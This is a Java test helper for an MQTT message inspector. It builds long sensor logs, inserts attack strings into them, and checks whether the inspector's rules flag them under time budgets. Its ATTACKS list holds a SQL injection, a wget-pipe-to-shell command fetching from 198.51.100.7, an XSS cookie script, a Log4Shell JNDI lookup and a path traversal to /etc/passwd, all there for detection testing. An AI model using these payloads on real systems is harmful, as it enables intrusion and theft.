package io.mqttsentinel.pattern;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.mqttsentinel.schemas.Action;
import io.mqttsentinel.schemas.Finding;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;

/** Long texts, clocks to inspect them by, and what was found. */
final class LongPayloads {

  static final int SIZE = 200_000;
  static final String ATTACK = "x' or 1=1 union select password from users -- ";

  static final List<String> ATTACKS =
      List.of(
          ATTACK,
          "; wget http://198.51.100.7/a.sh -O- | sh ",
          "<script>alert(document.cookie)</script>",
          "${jndi:ldap://198.51.100.7/a}",
          "../../../../../../etc/passwd");

  private LongPayloads() {}

  /** Slow while samples are taken, so that parts are looked at; then time stands still for all. */
  static TimeBudget slowThenStill() {
    AtomicLong readings = new AtomicLong();
    return new TimeBudget(
        DecodeLimits.DEFAULT.within(Duration.ofSeconds(1)),
        () -> 100_000_000L * Math.min(readings.incrementAndGet(), 6));
  }

  /** Each reading takes 150 us, so that some parts are looked at and not all. */
  static TimeBudget ticking() {
    AtomicLong now = new AtomicLong();
    return new TimeBudget(DecodeLimits.DEFAULT, () -> now.addAndGet(150_000));
  }

  static List<Finding> inspect(byte[] payload, TimeBudget budget) {
    return inspect(ShippedRules.loaded(), payload, budget);
  }

  static List<Finding> inspect(RuleSet rules, byte[] payload, TimeBudget budget) {
    return new PatternInspector(rules, List.of(), DecodeLimits.DEFAULT, budget)
        .inspect(Messages.of("clients/dev-1/data", payload));
  }

  static boolean isFound(List<Finding> findings) {
    return findings.stream()
        .anyMatch(
            finding ->
                !finding.getRuleId().equals(PatternInspector.TRUNCATED)
                    && finding.getAction() != Action.ALLOW);
  }

  static Map<String, Action> actions(List<Finding> findings) {
    Map<String, Action> actions = new HashMap<>();
    findings.forEach(finding -> actions.put(finding.getRuleId(), finding.getAction()));
    return actions;
  }

  static List<String> names(List<Finding> findings) {
    return findings.stream().map(Finding::getRuleId).toList();
  }

  static byte[] with(byte[] text, String inserted, double place) {
    String all = new String(text, UTF_8);
    int at = (int) (place * all.length());
    int line = at == all.length() ? at : all.lastIndexOf('\n', at) + 1;
    return (all.substring(0, line) + inserted + "\n" + all.substring(line)).getBytes(UTF_8);
  }

  static byte[] log(int size) {
    StringBuilder log = new StringBuilder();
    for (int i = 0; log.length() < size; i++) {
      log.append(
          "2026-03-01T12:00:%02d INFO sensor %d: temp=%d.%d, it's ok\n"
              .formatted(i % 60, i, i % 40, i % 10));
    }
    return log.toString().getBytes(UTF_8);
  }
}
